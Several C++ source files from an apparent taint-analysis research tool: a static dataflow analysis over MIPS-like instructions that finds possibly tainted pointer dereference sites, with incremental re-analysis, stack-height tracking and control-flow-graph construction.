      s.set(isa::kV0, Taint::kUntainted);
      break;
    case Op::kBreak:
    case Op::kInvalid:
      break;
  }
}

bool is_deref(const Instruction& inst) {
  return inst.is_mem() || inst.is_jump_reg();
}

}  // namespace

bool TaintAnalysis::predicts_alert(uint32_t pc) const {
  const DerefSite* s = site_at(pc);
  return s != nullptr && may_be_tainted(s->may_taint);
}

const DerefSite* TaintAnalysis::site_at(uint32_t pc) const {
  auto it = std::lower_bound(
      sites.begin(), sites.end(), pc,
      [](const DerefSite& s, uint32_t p) { return s.pc < p; });
  if (it == sites.end() || it->pc != pc) return nullptr;
  return &*it;
}

std::string TaintAnalysis::report(const Cfg& cfg) const {
  std::string out;
  char line[256];
  for (const DerefSite& s : sites) {
    if (!may_be_tainted(s.may_taint)) continue;
    const int f = cfg.function_at(s.pc);
    std::snprintf(line, sizeof line, "%x: %-28s addr=$%-2d %-13s  [in %s]\n",
                  s.pc, isa::disassemble(s.inst, s.pc).c_str(), s.addr_reg,
                  to_string(s.may_taint),
                  f >= 0 ? cfg.functions()[static_cast<size_t>(f)].name.c_str()
                         : "?");
    out += line;
  }
  return out;
}

TaintAnalysis analyze_taint(const Cfg& cfg, const cpu::TaintPolicy& policy) {
  const auto& blocks = cfg.blocks();
  const auto& insts = cfg.instructions();

  TaintAnalysis result;
  result.elision.assign(insts.size(), 0);

  // Collect sites up front (ascending by PC) and index them per
  // instruction for O(1) recording during the fixpoint.
  std::vector<int> site_of(insts.size(), -1);
  for (size_t i = 0; i < insts.size(); ++i) {
    const Instruction& inst = insts[i];
    if (!is_deref(inst)) continue;
    DerefSite site;
    site.pc = cfg.text_begin() + 4 * static_cast<uint32_t>(i);
    site.inst = inst;
    site.addr_reg = inst.rs;
    site.is_jump = inst.is_jump_reg();
    site_of[i] = static_cast<int>(result.sites.size());
    result.sites.push_back(site);
  }

  // Worklist fixpoint over the supergraph.
  std::vector<RegState> in_state(blocks.size());
  std::vector<bool> has_in(blocks.size(), false);
  std::vector<bool> queued(blocks.size(), false);
  std::deque<int> worklist;

  const int entry = cfg.block_at(cfg.program().entry);
  if (entry >= 0) {
    has_in[static_cast<size_t>(entry)] = true;  // all-Untainted entry state
    queued[static_cast<size_t>(entry)] = true;
    worklist.push_back(entry);
  }

  while (!worklist.empty()) {
    const int b = worklist.front();
    worklist.pop_front();
    queued[static_cast<size_t>(b)] = false;
    const BasicBlock& bb = blocks[static_cast<size_t>(b)];

    RegState s = in_state[static_cast<size_t>(b)];
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      const size_t i = cfg.index_of(pc);
      const Instruction& inst = insts[i];
      if (site_of[i] >= 0) {
        DerefSite& site = result.sites[static_cast<size_t>(site_of[i])];
        site.reachable = true;
        site.may_taint = join(site.may_taint, s.get(inst.rs));
      }
      transfer(inst, policy, s);
    }

    auto flow_to = [&](int succ) {
      if (succ < 0) return;
      auto us = static_cast<size_t>(succ);
      bool changed;
      if (!has_in[us]) {
        in_state[us] = s;
        has_in[us] = true;
        changed = true;
      } else {
        changed = in_state[us].join_with(s);
      }
      if (changed && !queued[us]) {
        queued[us] = true;
        worklist.push_back(succ);
      }
    };
    for (int succ : bb.succs) flow_to(succ);
    for (int succ : bb.call_succs) flow_to(succ);
  }

  for (const DerefSite& site : result.sites) {
    if (!site.reachable) continue;  // never elide unanalyzed code
    if (may_be_tainted(site.may_taint)) {
      ++result.possible_sites;
    } else {
      ++result.proven_clean;
      result.elision[cfg.index_of(site.pc)] = 1;
    }
  }
  return result;
}

TaintAnalysis analyze_taint(const asmgen::Program& program,
                            const cpu::TaintPolicy& policy) {
  return analyze_taint(Cfg(program), policy);
}

}  // namespace ptaint::analysis
