#include "analysis/taint_analyzer.hpp"

#include <algorithm>
#include <cstdio>
#include <deque>
#include <map>
#include <set>
#include <utility>

#include "isa/isa.hpp"

namespace ptaint::analysis {

using isa::Instruction;
using isa::Op;
using isa::OpClass;

const char* to_string(Taint t) {
  switch (t) {
    case Taint::kUntainted: return "untainted";
    case Taint::kMaybeTainted: return "maybe-tainted";
    case Taint::kTop: return "top";
  }
  return "?";
}

namespace {

/// Applies one instruction's Table 1 transfer to `s`, mirroring the
/// dynamic TaintUnit under `policy`.  Dereference recording happens in the
/// caller (it needs the pre-transfer state of the address register).
void transfer(const Instruction& inst, const cpu::TaintPolicy& policy,
              RegState& s) {
  const auto rs = [&] { return s.get(inst.rs); };
  const auto rt = [&] { return s.get(inst.rt); };
  switch (inst.op) {
    // Shift-immediate: taint smears between bytes but stays in the word.
    case Op::kSll:
    case Op::kSrl:
    case Op::kSra:
      s.set(inst.rd, rt());
      break;
    // Variable shifts: a tainted amount taints the whole result.
    case Op::kSllv:
    case Op::kSrlv:
    case Op::kSrav:
      s.set(inst.rd, join(rt(), rs()));
      break;

    case Op::kAdd: case Op::kAddu: case Op::kSub: case Op::kSubu:
    case Op::kOr: case Op::kNor:
      s.set(inst.rd, join(rs(), rt()));
      break;

    case Op::kAnd:
      // AND-zero rule: $zero is the only statically-certain zero byte
      // source; the value-dependent byte cases stay conservative.
      if (policy.and_zero_untaints &&
          (inst.rs == isa::kZero || inst.rt == isa::kZero)) {
        s.set(inst.rd, Taint::kUntainted);
      } else {
        s.set(inst.rd, join(rs(), rt()));
      }
      break;
    case Op::kXor:
      // XOR r,r,r zeroing idiom.
      if (policy.xor_self_untaints && inst.rs == inst.rt) {
        s.set(inst.rd, Taint::kUntainted);
      } else {
        s.set(inst.rd, join(rs(), rt()));
      }
      break;

    // Compare family: validated data is trusted afterwards (when the
    // policy applies the rule; the ablation variants must not assume it).
    case Op::kSlt:
    case Op::kSltu:
      if (policy.compare_untaints) {
        s.set(inst.rs, Taint::kUntainted);
        s.set(inst.rt, Taint::kUntainted);
        s.set(inst.rd, Taint::kUntainted);
      } else {
        s.set(inst.rd, join(rs(), rt()));
      }
      break;
    case Op::kSlti:
    case Op::kSltiu:
      if (policy.compare_untaints) {
        s.set(inst.rs, Taint::kUntainted);
        s.set(inst.rt, Taint::kUntainted);
      } else {
        s.set(inst.rt, rs());
      }
      break;

    case Op::kMult: case Op::kMultu: case Op::kDiv: case Op::kDivu: {
      const Taint t = join(rs(), rt());
      s.set(RegState::kHi, t);
      s.set(RegState::kLo, t);
      break;
    }
    case Op::kMfhi: s.set(inst.rd, s.get(RegState::kHi)); break;
    case Op::kMflo: s.set(inst.rd, s.get(RegState::kLo)); break;
    case Op::kMthi: s.set(RegState::kHi, rs()); break;
    case Op::kMtlo: s.set(RegState::kLo, rs()); break;

    case Op::kTaintSet: s.set(inst.rd, Taint::kMaybeTainted); break;
    case Op::kTaintClr: s.set(inst.rd, Taint::kUntainted); break;

    case Op::kAddi: case Op::kAddiu: case Op::kOri: case Op::kXori:
      s.set(inst.rt, rs());
      break;
    case Op::kAndi:
      if (policy.and_zero_untaints && (inst.imm & 0xffff) == 0) {
        s.set(inst.rt, Taint::kUntainted);
      } else {
        s.set(inst.rt, rs());
      }
      break;
    case Op::kLui:
      s.set(inst.rt, Taint::kUntainted);
      break;

    // Loads: memory is summarized as possibly tainted.
    case Op::kLb: case Op::kLh: case Op::kLw: case Op::kLbu: case Op::kLhu:
      s.set(inst.rt, Taint::kMaybeTainted);
      break;
    case Op::kSb: case Op::kSh: case Op::kSw:
      break;  // no register effect

    // Branches compare data against bounds (Table 1 compare rule).
    case Op::kBeq: case Op::kBne:
      if (policy.compare_untaints) {
        s.set(inst.rs, Taint::kUntainted);
        s.set(inst.rt, Taint::kUntainted);
      }
      break;
    case Op::kBlez: case Op::kBgtz: case Op::kBltz: case Op::kBgez:
      if (policy.compare_untaints) s.set(inst.rs, Taint::kUntainted);
      break;
    case Op::kBltzal: case Op::kBgezal:
      if (policy.compare_untaints) s.set(inst.rs, Taint::kUntainted);
      s.set(isa::kRa, Taint::kUntainted);
      break;

    case Op::kJ:
      break;
    case Op::kJal:
      s.set(isa::kRa, Taint::kUntainted);
      break;
    case Op::kJr:
      break;
    case Op::kJalr:
      s.set(inst.rd, Taint::kUntainted);
      break;

    case Op::kSyscall:
      // SimOs writes only the (kernel-produced, untainted) result register.
      s.set(isa::kV0, Taint::kUntainted);
      break;
    case Op::kBreak:
    case Op::kInvalid:
      break;
  }
}

bool is_deref(const Instruction& inst) {
  return inst.is_mem() || inst.is_jump_reg();
}

/// Enumerates dereference sites ascending by PC and indexes them per
/// instruction (site_of[i] = site index, or -1).
std::vector<DerefSite> enumerate_sites(const Cfg& cfg,
                                       std::vector<int>& site_of) {
  const auto& insts = cfg.instructions();
  std::vector<DerefSite> sites;
  site_of.assign(insts.size(), -1);
  for (size_t i = 0; i < insts.size(); ++i) {
    const Instruction& inst = insts[i];
    if (!is_deref(inst)) continue;
    DerefSite site;
    site.pc = cfg.text_begin() + 4 * static_cast<uint32_t>(i);
    site.inst = inst;
    site.addr_reg = inst.rs;
    site.is_jump = inst.is_jump_reg();
    site_of[i] = static_cast<int>(sites.size());
    sites.push_back(site);
  }
  return sites;
}

/// Applies a whole block's transfer to `s` without recording site facts.
void walk_block(const Cfg& cfg, const cpu::TaintPolicy& policy,
                const BasicBlock& bb, RegState& s) {
  for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
    transfer(cfg.instructions()[cfg.index_of(pc)], policy, s);
  }
}

struct G1State {
  std::vector<RegState> in_state;
  std::vector<bool> has_in;
};

/// Chaotic worklist iteration to the least fixpoint.  When `dirty` is
/// non-null (warm mode) only dirty blocks are processed, and a join that
/// would change a *clean* block's preloaded in-state aborts (returns false):
/// the dirty region's influence grew beyond the recorded run, so identity
/// with a cold run can no longer be assumed without one.
bool g1_fixpoint(const Cfg& cfg, const cpu::TaintPolicy& policy, G1State& st,
                 std::deque<int> worklist, const std::vector<uint8_t>* dirty) {
  const auto& blocks = cfg.blocks();
  std::vector<bool> queued(blocks.size(), false);
  for (int b : worklist) queued[static_cast<size_t>(b)] = true;
  bool aborted = false;

  while (!worklist.empty() && !aborted) {
    const int b = worklist.front();
    worklist.pop_front();
    queued[static_cast<size_t>(b)] = false;
    const BasicBlock& bb = blocks[static_cast<size_t>(b)];

    RegState s = st.in_state[static_cast<size_t>(b)];
    walk_block(cfg, policy, bb, s);

    auto flow_to = [&](int succ) {
      if (succ < 0 || aborted) return;
      auto us = static_cast<size_t>(succ);
      bool changed;
      if (!st.has_in[us]) {
        st.in_state[us] = s;
        st.has_in[us] = true;
        changed = true;
      } else {
        RegState joined = st.in_state[us];
        changed = joined.join_with(s);
        if (changed && dirty != nullptr && (*dirty)[us] == 0) {
          aborted = true;  // clean region would move: fall back to cold
          return;
        }
        st.in_state[us] = joined;
      }
      if (changed && !queued[us]) {
        queued[us] = true;
        worklist.push_back(succ);
      }
    };
    for (int succ : bb.succs) flow_to(succ);
    for (int succ : bb.call_succs) flow_to(succ);
  }
  return !aborted;
}

/// Replays every reached block once from its converged in-state and records
/// site facts.  Equal to recording during iteration: in-states only grow
/// (monotone transfer), the worklist invariant guarantees the last visit of
/// each block used its final in-state, and the join over all visits of a
/// monotone chain equals its maximum.
void g1_collect(const Cfg& cfg, const cpu::TaintPolicy& policy,
                const G1State& st, const std::vector<int>& site_of,
                std::vector<DerefSite>& sites,
                const std::vector<uint8_t>* only_blocks = nullptr) {
  const auto& blocks = cfg.blocks();
  const auto& insts = cfg.instructions();
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (!st.has_in[b]) continue;
    if (only_blocks != nullptr && (*only_blocks)[b] == 0) continue;
    const BasicBlock& bb = blocks[b];
    RegState s = st.in_state[b];
    for (uint32_t pc = bb.begin; pc < bb.end; pc += 4) {
      const size_t i = cfg.index_of(pc);
      const Instruction& inst = insts[i];
      if (site_of[i] >= 0) {
        DerefSite& site = sites[static_cast<size_t>(site_of[i])];
        site.reachable = true;
        site.may_taint = join(site.may_taint, s.get(inst.rs));
      }
      transfer(inst, policy, s);
    }
  }
}

// `dirty_blocks`/`splice`: incremental collection for the warm path.  A
// clean block's converged in-state and text are identical to the recorded
// run's (that is what the warm verification proves), so replaying it would
// reproduce the recorded site facts bit for bit — instead only dirty
// blocks are replayed and clean-block sites copy their facts from the base
// analysis.  Sites accumulate facts from exactly one block (their own), so
// the split is exact, not approximate.
TaintAnalysis finish_g1(const Cfg& cfg, const cpu::TaintPolicy& policy,
                        const G1State& st, const std::vector<int>& site_of,
                        std::vector<DerefSite> sites,
                        const std::vector<uint8_t>* dirty_blocks = nullptr,
                        const TaintAnalysis* splice = nullptr) {
  TaintAnalysis result;
  result.sites = std::move(sites);
  result.elision.assign(cfg.instructions().size(), 0);
  g1_collect(cfg, policy, st, site_of, result.sites, dirty_blocks);
  if (dirty_blocks != nullptr && splice != nullptr) {
    // Both site vectors and the block list are ascending by PC, so the
    // copy is a linear lockstep walk (the caller validated that every
    // clean site has a counterpart).
    const auto& blocks = cfg.blocks();
    auto oit = splice->sites.begin();
    size_t b = 0;
    for (DerefSite& site : result.sites) {
      while (b < blocks.size() && site.pc >= blocks[b].end) ++b;
      if (b >= blocks.size()) break;
      if (site.pc < blocks[b].begin || (*dirty_blocks)[b] != 0) continue;
      while (oit != splice->sites.end() && oit->pc < site.pc) ++oit;
      if (oit == splice->sites.end() || oit->pc != site.pc) continue;
      site.reachable = oit->reachable;
      site.may_taint = oit->may_taint;
    }
  }
  for (const DerefSite& site : result.sites) {
    if (!site.reachable) continue;  // never elide unanalyzed code
    if (may_be_tainted(site.may_taint)) {
      ++result.possible_sites;
    } else {
      ++result.proven_clean;
      result.elision[cfg.index_of(site.pc)] = 1;
    }
  }
  return result;
}

// `base`/`old_of_new`: on the warm path a clean block's out-state is the
// walk of an identical in-state over identical text — copied from the base
// record instead of recomputed (old_of_new[b] < 0 marks dirty blocks).
std::shared_ptr<const TaintFixpoint> build_g1_record(
    const Cfg& cfg, const cpu::TaintPolicy& policy, const G1State& st,
    const TaintFixpoint* base = nullptr,
    const std::vector<int>* old_of_new = nullptr) {
  const auto& blocks = cfg.blocks();
  auto fp = std::make_shared<TaintFixpoint>();
  fp->in_state = st.in_state;
  fp->has_in = st.has_in;
  fp->out_state.resize(blocks.size());
  fp->block_begin.reserve(blocks.size());
  fp->block_end.reserve(blocks.size());
  fp->succ_pcs.resize(blocks.size());
  for (size_t b = 0; b < blocks.size(); ++b) {
    const BasicBlock& bb = blocks[b];
    fp->block_begin.push_back(bb.begin);
    fp->block_end.push_back(bb.end);
    auto& targets = fp->succ_pcs[b];
    for (int succ : bb.succs) {
      if (succ >= 0) targets.push_back(blocks[static_cast<size_t>(succ)].begin);
    }
    for (int succ : bb.call_succs) {
      if (succ >= 0) targets.push_back(blocks[static_cast<size_t>(succ)].begin);
    }
    if (st.has_in[b]) {
      if (base != nullptr && old_of_new != nullptr && (*old_of_new)[b] >= 0) {
        fp->out_state[b] =
            base->out_state[static_cast<size_t>((*old_of_new)[b])];
      } else {
        RegState s = st.in_state[b];
        walk_block(cfg, policy, bb, s);
        fp->out_state[b] = s;
      }
    }
  }
  for (const Function& fn : cfg.functions()) {
    fp->fn_spans.emplace_back(fn.entry, fn.end);
  }
  std::sort(fp->fn_spans.begin(), fp->fn_spans.end());
  return fp;
}

}  // namespace

bool TaintAnalysis::predicts_alert(uint32_t pc) const {
  const DerefSite* s = site_at(pc);
  return s != nullptr && may_be_tainted(s->may_taint);
}

const DerefSite* TaintAnalysis::site_at(uint32_t pc) const {
  auto it = std::lower_bound(
      sites.begin(), sites.end(), pc,
      [](const DerefSite& s, uint32_t p) { return s.pc < p; });
  if (it == sites.end() || it->pc != pc) return nullptr;
  return &*it;
}

std::string TaintAnalysis::report(const Cfg& cfg) const {
  std::string out;
  char line[256];
  for (const DerefSite& s : sites) {
    if (!may_be_tainted(s.may_taint)) continue;
    const int f = cfg.function_at(s.pc);
    std::snprintf(line, sizeof line, "%x: %-28s addr=$%-2d %-13s  [in %s]\n",
                  s.pc, isa::disassemble(s.inst, s.pc).c_str(), s.addr_reg,
                  to_string(s.may_taint),
                  f >= 0 ? cfg.functions()[static_cast<size_t>(f)].name.c_str()
                         : "?");
    out += line;
  }
  return out;
}

TaintAnalysis analyze_taint(const Cfg& cfg, const cpu::TaintPolicy& policy) {
  const auto& blocks = cfg.blocks();

  std::vector<int> site_of;
  std::vector<DerefSite> sites = enumerate_sites(cfg, site_of);

  G1State st;
  st.in_state.resize(blocks.size());
  st.has_in.assign(blocks.size(), false);

  std::deque<int> worklist;
  const int entry = cfg.block_at(cfg.program().entry);
  if (entry >= 0) {
    st.has_in[static_cast<size_t>(entry)] = true;  // all-Untainted entry state
    worklist.push_back(entry);
  }
  g1_fixpoint(cfg, policy, st, std::move(worklist), nullptr);
  return finish_g1(cfg, policy, st, site_of, std::move(sites));
}

TaintRun analyze_taint_run(const Cfg& cfg, const cpu::TaintPolicy& policy) {
  const auto& blocks = cfg.blocks();

  std::vector<int> site_of;
  std::vector<DerefSite> sites = enumerate_sites(cfg, site_of);

  G1State st;
  st.in_state.resize(blocks.size());
  st.has_in.assign(blocks.size(), false);

  std::deque<int> worklist;
  const int entry = cfg.block_at(cfg.program().entry);
  if (entry >= 0) {
    st.has_in[static_cast<size_t>(entry)] = true;
    worklist.push_back(entry);
  }
  g1_fixpoint(cfg, policy, st, std::move(worklist), nullptr);

  TaintRun run;
  run.fixpoint = build_g1_record(cfg, policy, st);
  run.analysis = finish_g1(cfg, policy, st, site_of, std::move(sites));
  return run;
}

std::optional<TaintRun> analyze_taint_warm(
    const Cfg& cfg, const cpu::TaintPolicy& policy, const TaintFixpoint& base,
    const std::vector<uint8_t>& dirty_fns, const TaintAnalysis* base_analysis) {
  const auto& blocks = cfg.blocks();
  const auto& fns = cfg.functions();
  if (blocks.empty() || dirty_fns.size() != fns.size()) return std::nullopt;

  // Clean PC test: the clean functions' spans.  A clean function's text,
  // entry PC and (because the cache folds the global label fingerprint into
  // every content hash) block structure are identical to the recorded run.
  std::vector<std::pair<uint32_t, uint32_t>> clean_spans;
  size_t n_dirty = 0;
  for (size_t f = 0; f < fns.size(); ++f) {
    if (dirty_fns[f] != 0) {
      ++n_dirty;
    } else {
      clean_spans.emplace_back(fns[f].entry, fns[f].end);
    }
  }
  if (n_dirty == 0 || clean_spans.empty()) return std::nullopt;
  std::sort(clean_spans.begin(), clean_spans.end());
  auto clean_pc = [&](uint32_t pc) {
    auto it = std::upper_bound(clean_spans.begin(), clean_spans.end(),
                               std::make_pair(pc, UINT32_MAX));
    if (it == clean_spans.begin()) return false;
    --it;
    return pc >= it->first && pc < it->second;
  };
  // Recorded functions must cover clean spans exactly (guards against a
  // record from a structurally different program reaching us).
  for (const auto& span : clean_spans) {
    auto it = std::lower_bound(base.fn_spans.begin(), base.fn_spans.end(),
                               std::make_pair(span.first, uint32_t{0}));
    if (it == base.fn_spans.end() || it->first != span.first ||
        it->second != span.second) {
      return std::nullopt;
    }
  }

  // Per-block dirtiness (blocks outside any recovered function count as
  // dirty: they have no content hash to prove them unchanged).
  std::vector<uint8_t> block_dirty(blocks.size(), 1);
  for (size_t b = 0; b < blocks.size(); ++b) {
    const BasicBlock& bb = blocks[b];
    if (bb.function >= 0 && dirty_fns[static_cast<size_t>(bb.function)] == 0) {
      block_dirty[b] = 0;
    }
  }

  // New block index by begin PC (for resolving recorded flow targets).
  auto new_block_at = [&](uint32_t pc) { return cfg.block_at(pc); };

  G1State st;
  st.in_state.resize(blocks.size());
  st.has_in.assign(blocks.size(), false);

  // Preload clean blocks from the record.  block_begin is ascending
  // (blocks are recorded in address order), so the lookup is a search.
  std::vector<int> old_of_new(blocks.size(), -1);
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (block_dirty[b] != 0) continue;
    auto it = std::lower_bound(base.block_begin.begin(),
                               base.block_begin.end(), blocks[b].begin);
    if (it == base.block_begin.end() || *it != blocks[b].begin) {
      return std::nullopt;  // shape mismatch: cold
    }
    const size_t ob = static_cast<size_t>(it - base.block_begin.begin());
    if (base.block_end[ob] != blocks[b].end) return std::nullopt;
    old_of_new[b] = static_cast<int>(ob);
    st.in_state[b] = base.in_state[ob];
    st.has_in[b] = base.has_in[ob];
  }

  // Seed the dirty region: the entry state if the entry function is dirty,
  // plus every recorded clean-block out-state flowing into a dirty block.
  std::deque<int> worklist;
  std::vector<bool> seeded(blocks.size(), false);
  auto seed = [&](int b, const RegState& s) {
    auto ub = static_cast<size_t>(b);
    if (!st.has_in[ub]) {
      st.in_state[ub] = s;
      st.has_in[ub] = true;
    } else {
      st.in_state[ub].join_with(s);
    }
    if (!seeded[ub]) {
      seeded[ub] = true;
      worklist.push_back(b);
    }
  };
  const int entry = cfg.block_at(cfg.program().entry);
  if (entry < 0) return std::nullopt;
  if (block_dirty[static_cast<size_t>(entry)] != 0) {
    seed(entry, RegState{});
  }
  for (size_t ob = 0; ob < base.block_begin.size(); ++ob) {
    if (!base.has_in[ob] || !clean_pc(base.block_begin[ob])) continue;
    for (uint32_t tpc : base.succ_pcs[ob]) {
      const int nb = new_block_at(tpc);
      if (nb >= 0 && blocks[static_cast<size_t>(nb)].begin == tpc &&
          block_dirty[static_cast<size_t>(nb)] != 0) {
        seed(nb, base.out_state[ob]);
      }
    }
  }

  if (!g1_fixpoint(cfg, policy, st, std::move(worklist), &block_dirty)) {
    return std::nullopt;  // clean region would move
  }

  // Verify: for every clean block, the join of contributions flowing in
  // from the dirty region must equal the recorded one.  (Clean-to-clean
  // contributions are unchanged by construction, and join is associative,
  // so equal dirty-side joins imply an identical cold fixpoint.)
  std::map<uint32_t, RegState> j_old;
  std::map<uint32_t, RegState> j_new;
  std::set<uint32_t> touched;
  auto accumulate = [](std::map<uint32_t, RegState>& m, uint32_t dst,
                       const RegState& s) {
    auto [it, fresh] = m.emplace(dst, s);
    if (!fresh) it->second.join_with(s);
  };
  for (size_t ob = 0; ob < base.block_begin.size(); ++ob) {
    if (!base.has_in[ob] || clean_pc(base.block_begin[ob])) continue;
    for (uint32_t tpc : base.succ_pcs[ob]) {
      if (!clean_pc(tpc)) continue;
      accumulate(j_old, tpc, base.out_state[ob]);
      touched.insert(tpc);
    }
  }
  for (size_t b = 0; b < blocks.size(); ++b) {
    if (block_dirty[b] == 0 || !st.has_in[b]) continue;
    RegState out = st.in_state[b];
    walk_block(cfg, policy, blocks[b], out);
    auto flow = [&](int succ) {
      if (succ < 0) return;
      const uint32_t tpc = blocks[static_cast<size_t>(succ)].begin;
      if (!clean_pc(tpc)) return;
      accumulate(j_new, tpc, out);
      touched.insert(tpc);
    };
    for (int succ : blocks[b].succs) flow(succ);
    for (int succ : blocks[b].call_succs) flow(succ);
  }
  for (uint32_t dst : touched) {
    auto io = j_old.find(dst);
    auto in = j_new.find(dst);
    if ((io == j_old.end()) != (in == j_new.end())) return std::nullopt;
    if (io != j_old.end() && !(io->second == in->second)) return std::nullopt;
  }

  std::vector<int> site_of;
  std::vector<DerefSite> sites = enumerate_sites(cfg, site_of);
  // Incremental collection: only valid when every clean-block site has a
  // recorded counterpart to copy facts from (it always does when the base
  // analysis came from the recorded program; anything else falls back to
  // the full whole-program replay, which is equally exact).
  const TaintAnalysis* splice = base_analysis;
  if (splice != nullptr) {
    // Lockstep walk (both vectors ascend by PC): every clean-span site
    // needs a base counterpart.  A site is in a clean block iff its PC is
    // in a clean span (spans cover exactly the clean functions' blocks).
    auto oit = splice->sites.begin();
    for (const DerefSite& site : sites) {
      if (!clean_pc(site.pc)) continue;
      while (oit != splice->sites.end() && oit->pc < site.pc) ++oit;
      if (oit == splice->sites.end() || oit->pc != site.pc) {
        splice = nullptr;
        break;
      }
    }
  }
  TaintRun run;
  run.fixpoint = build_g1_record(cfg, policy, st, splice ? &base : nullptr,
                                 splice ? &old_of_new : nullptr);
  run.analysis =
      finish_g1(cfg, policy, st, site_of, std::move(sites),
                splice ? &block_dirty : nullptr, splice);
  return run;
}

TaintAnalysis analyze_taint(const asmgen::Program& program,
                            const cpu::TaintPolicy& policy) {
  return analyze_taint(Cfg(program), policy);
}

}  // namespace ptaint::analysis
