// Per-PC stack-height facts: the constant delta of $sp from its value at
// function entry, where that delta is provably the same on every
// intra-procedural path.  This is the dataflow previously embedded in the
// stack-imbalance lint; it is factored out here because the value-set
// analysis (vsa.cpp) keys stack frame cells by exactly these offsets — a
// frame cell `f[c]` is the word at (function-entry $sp) + c, and the height
// facts let the prover re-anchor $sp after joins that would otherwise
// degrade it.
#pragma once

#include <cstdint>
#include <optional>
#include <vector>

#include "analysis/cfg.hpp"
#include "isa/isa.hpp"

namespace ptaint::analysis {

class StackHeights {
 public:
  StackHeights() = default;
  /// Sized for `text_words` instructions starting at kTextBase.  Dense:
  /// at()/set() are hot in the value-set analysis (every block entry) and
  /// the fixpoint here touches every instruction, so an array beats a map.
  explicit StackHeights(size_t text_words)
      : known_(text_words, 0), delta_(text_words, 0) {}

  /// Delta of $sp (in bytes, relative to function entry) *before* the
  /// instruction at `pc` executes.  nullopt when unknown (non-constant
  /// adjustment, or conflicting deltas at a join).
  std::optional<int32_t> at(uint32_t pc) const {
    const size_t i = index(pc);
    if (i >= known_.size() || known_[i] == 0) return std::nullopt;
    return delta_[i];
  }

  void set(uint32_t pc, int32_t delta) {
    const size_t i = index(pc);
    if (i < known_.size()) {
      known_[i] = 1;
      delta_[i] = delta;
    }
  }
  void erase(uint32_t pc) {
    const size_t i = index(pc);
    if (i < known_.size()) known_[i] = 0;
  }

 private:
  static size_t index(uint32_t pc) {
    return static_cast<size_t>(pc - isa::layout::kTextBase) / 4;
  }
  std::vector<uint8_t> known_;  // 0 = unknown delta at that instruction
  std::vector<int32_t> delta_;
};

/// Runs the per-function constant-$sp-delta fixpoint over every recovered
/// function.  Deterministic: functions in address order, blocks via a FIFO
/// worklist seeded from the entry block.
StackHeights compute_stack_heights(const Cfg& cfg);

}  // namespace ptaint::analysis
