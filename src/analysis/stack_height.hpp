// Per-PC stack-height facts: the constant delta of $sp from its value at
// function entry, where that delta is provably the same on every
// intra-procedural path.  This is the dataflow previously embedded in the
// stack-imbalance lint; it is factored out here because the value-set
// analysis (vsa.cpp) keys stack frame cells by exactly these offsets — a
// frame cell `f[c]` is the word at (function-entry $sp) + c, and the height
// facts let the prover re-anchor $sp after joins that would otherwise
// degrade it.
#pragma once

#include <cstdint>
#include <map>
#include <optional>

#include "analysis/cfg.hpp"

namespace ptaint::analysis {

class StackHeights {
 public:
  /// Delta of $sp (in bytes, relative to function entry) *before* the
  /// instruction at `pc` executes.  nullopt when unknown (non-constant
  /// adjustment, or conflicting deltas at a join).
  std::optional<int32_t> at(uint32_t pc) const {
    auto it = delta_.find(pc);
    if (it == delta_.end()) return std::nullopt;
    return it->second;
  }

  void set(uint32_t pc, int32_t delta) { delta_[pc] = delta; }
  void erase(uint32_t pc) { delta_.erase(pc); }

  const std::map<uint32_t, int32_t>& all() const { return delta_; }

 private:
  std::map<uint32_t, int32_t> delta_;  // pc -> known delta; absent = unknown
};

/// Runs the per-function constant-$sp-delta fixpoint over every recovered
/// function.  Deterministic: functions in address order, blocks via a FIFO
/// worklist seeded from the entry block.
StackHeights compute_stack_heights(const Cfg& cfg);

}  // namespace ptaint::analysis
