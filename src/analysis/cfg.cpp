#include "analysis/cfg.hpp"

#include <algorithm>

namespace ptaint::analysis {

using isa::Instruction;
using isa::Op;
using isa::OpClass;
namespace layout = isa::layout;

namespace {

bool is_branch(Op op) { return isa::op_class(op) == OpClass::kBranch; }

uint32_t branch_target(const Instruction& inst, uint32_t pc) {
  return pc + 4 + (static_cast<uint32_t>(inst.imm) << 2);
}

/// True when the instruction ends a basic block.
bool is_terminator(const Instruction& inst) {
  switch (isa::op_class(inst.op)) {
    case OpClass::kBranch:
    case OpClass::kJump:
    case OpClass::kJumpReg:
      return true;
    default:
      return inst.op == Op::kBreak || inst.op == Op::kInvalid;
  }
}

}  // namespace

Cfg::Cfg(const asmgen::Program& program) : program_(&program) {
  text_begin_ = layout::kTextBase;
  text_end_ = layout::kTextBase +
              4 * static_cast<uint32_t>(program.text.size());
  decode();
  find_leaders();
  build_blocks();
  wire_edges();
}

void Cfg::decode() {
  insts_.reserve(program_->text.size());
  for (uint32_t word : program_->text) insts_.push_back(isa::decode(word));
}

void Cfg::find_leaders() {
  leader_.assign(insts_.size(), false);
  if (insts_.empty()) return;
  auto mark = [&](uint32_t pc) {
    if (in_text(pc)) leader_[index_of(pc)] = true;
  };
  mark(program_->entry);
  mark(text_begin_);
  // Function entries (jal targets plus _start/main) are leaders; they also
  // seed the function list.
  for (const auto& [addr, name] : program_->function_labels) mark(addr);
  for (size_t i = 0; i < insts_.size(); ++i) {
    const Instruction& inst = insts_[i];
    const uint32_t pc = text_begin_ + 4 * static_cast<uint32_t>(i);
    if (is_branch(inst.op)) mark(branch_target(inst, pc));
    if (inst.op == Op::kJ || inst.op == Op::kJal) mark(inst.target);
    if (is_terminator(inst)) mark(pc + 4);
  }
  // Every label is a leader too: indirect jumps can only target labels, and
  // the linter wants label-granular blocks.
  for (const auto& [addr, name] : program_->text_labels) mark(addr);
}

void Cfg::build_blocks() {
  // Functions first, so blocks can be attributed as they are built.
  // Ownership runs from each function entry to the next one.
  std::vector<std::pair<uint32_t, std::string>> entries(
      program_->function_labels);
  if (!std::any_of(entries.begin(), entries.end(), [&](const auto& e) {
        return e.first == program_->entry;
      })) {
    entries.emplace_back(program_->entry, "<entry>");
  }
  std::sort(entries.begin(), entries.end());
  functions_.reserve(entries.size());
  for (size_t i = 0; i < entries.size(); ++i) {
    Function f;
    f.entry = entries[i].first;
    f.name = entries[i].second;
    f.end = i + 1 < entries.size() ? entries[i + 1].first : text_end_;
    function_by_entry_[f.entry] = static_cast<int>(functions_.size());
    functions_.push_back(std::move(f));
  }

  // Every terminator marks the following instruction as a leader, so the
  // block count is exactly the leader count.
